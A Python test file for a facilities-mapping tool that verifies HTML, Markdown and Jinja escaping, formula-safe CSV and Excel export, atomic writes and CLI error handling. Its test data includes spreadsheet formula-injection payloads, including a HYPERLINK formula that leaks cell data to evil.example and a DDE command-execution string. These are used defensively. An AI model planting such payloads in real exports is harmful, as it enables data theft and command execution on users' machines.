"""Trust, without a browser: text from data never becomes a template, markup or a formula; the check date is
explicit; writes are whole or absent; the CLI never shows a traceback."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jinja2 import Template

from facilities import settings as fsettings
from facilities.errors import SettingError
from facilities.spreadsheet import FORMULA_START, to_csv_bytes, to_xlsx_bytes
from maps.escape import html_text, is_inert, script_json
from tests.helpers import DEMO, ROOT
from ui.safe import WORD_JOINER, md

# text rich in what templates, HTML and Markdown act on
hostile_text = st.text(alphabet=st.sampled_from(list("{}%#<>&\"'`*_[]()!=+-@\t\r\n$:/.\\ aZ中9")), max_size=40)


def _jinja(text: str) -> str:
    return Template(text, keep_trailing_newline=True).render()


def _newlines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


@given(hostile_text)
@settings(max_examples=300, deadline=None)
def test_html_text_is_inert_and_shows_as_typed(s):
    out = html_text(s)
    assert is_inert(out) and "<" not in out
    assert _jinja(out) == _newlines(out)  # a second pass through Jinja changes nothing (but line ends)
    assert html.unescape(out) == s  # the browser shows the text as typed


@given(st.recursive(st.none() | st.booleans() | st.integers() | hostile_text, lambda c: st.lists(c) | st.dictionaries(hostile_text, c)))
@settings(max_examples=300, deadline=None)
def test_script_json_is_inert_and_the_same_data(value):
    out = script_json(value)
    assert is_inert(out) and "</" not in out
    assert _jinja(out) == out
    assert json.loads(out) == value


@given(hostile_text)
@settings(max_examples=300, deadline=None)
def test_md_leaves_no_markdown_syntax(s):
    out = md(s)
    # no ASCII punctuation survives as such: Markdown has nothing to act on, and the references decode to s
    assert not any(ch in out.replace("&#", "").replace(";", "") for ch in "*_[]()!<>`$:\\{}|~")
    assert html.unescape(out).replace(WORD_JOINER, "") == re.sub(r"[\r\n\t]+", " ", s)  # one line, else as typed


def test_md_of_a_markdown_image():
    assert md("![x](http://evil.example/a.png)") == "&#33;&#91;x&#93;&#40;http\u2060&#58;&#47;&#47;evil&#46;example&#47;a&#46;png&#41;"


PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]


def test_csv_cells_never_start_a_formula():
    frame = pd.DataFrame({"name": [*PAYLOADS, "ok", "-12.5"], "n": [-1, 2, 3, -4.5, 5, 6, 7, 8]})
    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["name", "n"]
    names = [r[0] for r in rows[1:]]
    assert names[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert names[-2:] == ["ok", "-12.5"]  # a number written as text stays a number
    assert [float(r[1]) for r in rows[1:]] == [-1, 2, 3, -4.5, 5, 6, 7, 8]  # real numbers untouched


def test_excel_cells_are_text_never_formulas(tmp_path):
    frame = pd.DataFrame({"name": [*PAYLOADS, "ok"], "n": [-1, 2, 3, -4.5, 5, 6, None], "d": pd.to_datetime(["2026-01-02"] * 7)})
    path = tmp_path / "x.xlsx"
    path.write_bytes(to_xlsx_bytes(frame, "gaps"))
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    ws = openpyxl.load_workbook(path).active
    names = [ws.cell(row=i, column=1) for i in range(2, 2 + len(PAYLOADS))]
    # (openpyxl writes through lxml, a pinned dependency: a CR survives as &#13;, the text is kept exactly)
    assert [c.value for c in names] == list(PAYLOADS) and all(c.data_type == "s" and c.quotePrefix for c in names)
    assert [ws.cell(row=i, column=2).value for i in range(2, 9)] == [-1, 2, 3, -4.5, 5, 6, None]
    assert ws.cell(row=2, column=3).value.date() == dt.date(2026, 1, 2)


def test_check_writes_formula_safe_summary(tmp_path):
    hostile = ROOT / "tests" / "data" / "bad" / "hostile_text_check" / "input"
    args = ["check", str(hostile), "--out", str(tmp_path), "--quiet", "--as-of", "2026-11-29"]
    run = subprocess.run([sys.executable, "-m", "facilities", *args], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert run.returncode == 1, run.stdout + run.stderr  # the hostile city fails its one rule
    rows = list(csv.DictReader(io.StringIO((tmp_path / "summary.csv").read_bytes().decode("utf-8-sig"))))
    assert rows[0]["title_en"].startswith("'=HYPERLINK(")
    for row in rows:
        assert not any(v.startswith(FORMULA_START) for v in row.values())


def test_check_date_order(monkeypatch):
    monkeypatch.delenv(fsettings.AS_OF_ENV, raising=False)
    given_date, rules_date = dt.date(2026, 1, 2), dt.date(2025, 5, 6)
    assert fsettings.check_date(given_date, rules_date) == given_date
    assert fsettings.check_date(None, rules_date) == rules_date
    monkeypatch.setenv(fsettings.AS_OF_ENV, "2027-06-01")
    assert fsettings.check_date(None, rules_date) == dt.date(2027, 6, 1)
    assert fsettings.check_date(given_date, rules_date) == given_date
    monkeypatch.setenv(fsettings.AS_OF_ENV, "2027-02-29")
    with pytest.raises(SettingError, match=r"FACILITIES_AS_OF.*2027-02-29.*YYYY-MM-DD"):
        fsettings.check_date()


def test_check_figures_of_a_given_date_do_not_depend_on_today():
    """The same date gives the same figures under FACILITIES_AS_OF and under --as-of (faketime runs it too)."""
    env = {**os.environ, fsettings.AS_OF_ENV: "2026-11-29"}
    a = subprocess.run(
        [sys.executable, "-m", "facilities", "check", str(DEMO), "--quiet"], capture_output=True, text=True, cwd=ROOT, env=env
    )
    env.pop(fsettings.AS_OF_ENV)
    b = subprocess.run([sys.executable, "-m", "facilities", "check", str(DEMO), "--quiet", "--as-of", "2026-11-29"],
                       capture_output=True, text=True, cwd=ROOT, env=env)  # fmt: skip
    assert a.stdout == b.stdout and "核查日期 2026-11-29" in a.stdout


@pytest.mark.parametrize("delay", [0.3, 0.8, 1.4, 2.0])
def test_a_killed_export_leaves_no_partial_file(tmp_path, delay):
    """kill -9 at several moments of `map`: the output is absent or whole, and nothing else is left."""
    out = tmp_path / "out"
    out.mkdir()
    (out / "map.html").write_text("<!-- the previous export --></html>", encoding="utf-8")
    proc = subprocess.Popen([sys.executable, "-m", "facilities", "map", str(DEMO), "--out", str(out / "map.html"), "--as-of", "2026-11-29"],
                            cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    time.sleep(delay)
    proc.send_signal(signal.SIGKILL)
    proc.wait(30)
    assert sorted(p.name for p in out.iterdir()) == ["map.html"]
    assert (out / "map.html").read_text(encoding="utf-8").rstrip().endswith("</html>")


def test_disk_full_names_the_file(tmp_path, monkeypatch):
    """An error while writing (here: ENOSPC, injected) names the file and leaves the old one whole."""
    import errno

    from facilities.store import atomic

    target = tmp_path / "toilets.geojson"
    target.write_text("old", encoding="utf-8")

    def full(fd, data):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(atomic, "_write_all", full)
    with pytest.raises(OSError, match="No space left on device") as exc:
        atomic.write_atomic(target, "new")
    assert exc.value.filename == str(target)
    assert target.read_text(encoding="utf-8") == "old" and sorted(p.name for p in tmp_path.iterdir()) == ["toilets.geojson"]


def test_cli_shows_no_traceback_on_an_unexpected_error(monkeypatch, capsys):
    """A bug of ours (here: injected) reaches the user as one line naming the error (the traceback with FACILITIES_DEBUG=1)."""
    import cli
    from cli import inventory

    monkeypatch.delenv("FACILITIES_DEBUG", raising=False)
    monkeypatch.setattr(inventory, "_validate", lambda args: 1 / 0)  # the parser binds the command when main builds it
    code = cli.main(["validate", "x"])
    err = capsys.readouterr().err
    assert code == 3 and "Traceback" not in err
    assert "unexpected ZeroDivisionError" in err and "FACILITIES_DEBUG=1" in err
